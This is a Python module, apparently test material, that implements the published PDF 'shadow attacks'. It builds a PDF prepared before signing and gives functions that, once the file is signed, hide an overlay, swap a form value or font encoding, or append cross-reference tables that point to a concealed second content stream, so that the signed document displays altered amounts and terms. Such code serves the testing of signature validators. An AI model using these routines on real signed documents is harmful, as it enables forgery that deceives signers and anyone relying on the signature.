# mypy: disable-error-code="no-untyped-call"
"""Shadow attacks on PDFs (Mainka, Mladenov, Rohlmann: *Shadow Attacks*, NDSS 2021): prepared before they are signed.

The forger has a clerk sign a paper that already holds what it is to show later, and afterwards needs only a change that
looks harmless: an object that is hidden (*hide*), a font or the value of a field that is exchanged (*replace*), or a
table of places that leads to another object of the same number (*hide and replace*).
"""

import re
from collections.abc import Callable
from io import BytesIO
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

SHOWN = b"BT /F 20 Tf 80 600 Td (Cap 5 000 dong) Tj ET"
MEANT = b"BT /F 20 Tf 80 600 Td (Cap 5 000 000 dong) Tj ET"
UNDER = b"BT /F 20 Tf 80 650 Td (Thoi han 50 nam) Tj ET"
OVER = b"1 g 70 640 250 30 re f BT 0 g /F 20 Tf 80 650 Td (Thoi han 5 nam) Tj ET"
SECOND = re.compile(rb"%shadow\n(\d+ 0 obj)")


def prepared(folder: Path) -> Path:
    """A paper with all that the attacks need in it: an overlay, a field, and a second content stream that no table
    leads to, under the number of the first."""
    pdf = pikepdf.Pdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    overlay = pikepdf.Stream(pdf, OVER)
    overlay.stream_dict = Dictionary(Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 595, 842]),
                                     Resources=Dictionary(Font=Dictionary(F=font)))  # fmt: skip
    looks = pikepdf.Stream(pdf, b"/Tx BMC q BT /F 12 Tf 2 5 Td (Dong y) Tj ET Q EMC")
    looks.stream_dict = Dictionary(Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 200, 20]),
                                   Resources=Dictionary(Font=Dictionary(F=font)))  # fmt: skip
    field = pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=pikepdf.String("ykien"), V=pikepdf.String("Khong dong y"),
        Rect=Array([80, 500, 280, 520]), F=4, DA=pikepdf.String("/F 12 Tf 0 g"),
        AP=Dictionary(N=pdf.make_indirect(looks)),
    ))  # fmt: skip
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), DR=Dictionary(Font=Dictionary(F=font)))
    pdf.pages.append(pikepdf.Page(Dictionary(
        Type=Name.Page, MediaBox=Array([0, 0, 595, 842]), Annots=Array([field]),
        Resources=Dictionary(Font=Dictionary(F=font), XObject=Dictionary(Over=pdf.make_indirect(overlay))),
        Contents=pdf.make_stream(_drawn(SHOWN)))))  # fmt: skip
    written = BytesIO()
    pdf.save(written, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False)
    target = folder / "prepared.pdf"
    target.write_bytes(_with_a_second_content(written.getvalue()))
    return target


def _drawn(line: bytes) -> bytes:
    return line + b" " + UNDER + b" q /Over Do Q"


def _with_a_second_content(content: bytes) -> bytes:
    """The same, and before its table of places another stream under the number of the page's content."""
    found = re.search(rb"(\d+) 0 obj\n<<[^>]*>>\nstream\n" + re.escape(SHOWN), content)
    assert found is not None
    shadow = b"%%shadow\n%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        int(found[1]), len(_drawn(MEANT)), _drawn(MEANT))  # fmt: skip
    table = content.rindex(b"xref\n0 ")
    moved = content[:table] + shadow + content[table:]
    return re.sub(rb"startxref\n\d+", b"startxref\n%d" % (table + len(shadow)), moved)


# -- afterwards -----------------------------------------------------------------------------------------------------


def _page(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    found: generic.DictionaryObject = writer.find_page_for_modification(0)[0].get_object()
    return found


def hide_the_overlay(writer: IncrementalPdfFileWriter) -> None:
    """The overlay stays in its place and draws nothing."""
    reference = _page(writer)["/Resources"]["/XObject"].raw_get("/Over")
    nothing = generic.StreamObject(dict(reference.get_object()), stream_data=b"")
    writer.objects[reference.generation, reference.idnum] = nothing


def unlink_the_overlay(writer: IncrementalPdfFileWriter) -> None:
    """The overlay is no form any more, so that programs pass over it."""
    reference = _page(writer)["/Resources"]["/XObject"].raw_get("/Over")
    writer.objects[reference.generation, reference.idnum] = generic.DictionaryObject(
        {pdf_name("/Type"): pdf_name("/XObject")})  # fmt: skip


def replace_the_value(writer: IncrementalPdfFileWriter) -> None:
    """Filling in a form is what many programs let pass."""
    field = next(one.get_object() for one in writer.root["/AcroForm"]["/Fields"] if "/FT" in one.get_object())
    field[pdf_name("/V")] = generic.TextStringObject("Dong y va cap them")
    field[pdf_name("/AP")] = generic.DictionaryObject({
        pdf_name("/N"): writer.add_object(generic.StreamObject(
            {pdf_name("/Type"): pdf_name("/XObject"), pdf_name("/Subtype"): pdf_name("/Form"),
             pdf_name("/BBox"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 400, 400)))},
            stream_data=b"1 g 0 0 400 400 re f"))})  # fmt: skip
    writer.update_container(field)


def replace_the_font(writer: IncrementalPdfFileWriter) -> None:
    """The same codes, other letters."""
    font = _page(writer)["/Resources"]["/Font"]["/F"]
    font[pdf_name("/Encoding")] = generic.DictionaryObject({pdf_name("/Differences"): generic.ArrayObject(
        [generic.NumberObject(48), pdf_name("/nine")])})  # fmt: skip
    writer.update_container(font)


SHADOWS: tuple[Callable[[IncrementalPdfFileWriter], None], ...] = (
    hide_the_overlay, unlink_the_overlay, replace_the_value, replace_the_font,
)  # fmt: skip


def led_to_the_second(content: bytes) -> bytes:
    """Hide and replace: nothing is added but a table that leads to the object that was there all the time."""
    found = SECOND.search(content)
    assert found is not None
    number, place = int(found[1].split()[0]), found.start(1)
    before = int(re.findall(rb"startxref\s+(\d+)", content)[-1])
    writer = IncrementalPdfFileWriter(BytesIO(content), strict=False)
    root, size = writer.root_ref, int(writer.trailer["/Size"])
    table = b"xref\n%d 1\n%010d 00000 n \ntrailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        number, place, size, root.idnum, before, len(content))  # fmt: skip
    return content + table


def freed_by_table(content: bytes) -> bytes:
    """Hide: nothing is added but a table in which the overlay is free."""
    writer = IncrementalPdfFileWriter(BytesIO(content), strict=False)
    overlay = _page(writer)["/Resources"]["/XObject"].raw_get("/Over").idnum
    before = int(re.findall(rb"startxref\s+(\d+)", content)[-1])
    table = b"xref\n0 1\n%010d 65535 f \n%d 1\n0000000000 00001 f \n" % (overlay, overlay)
    end = b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        int(writer.trailer["/Size"]), writer.root_ref.idnum, before, len(content))  # fmt: skip
    return content + table + end


BY_TABLE: tuple[Callable[[bytes], bytes], ...] = (led_to_the_second, freed_by_table)
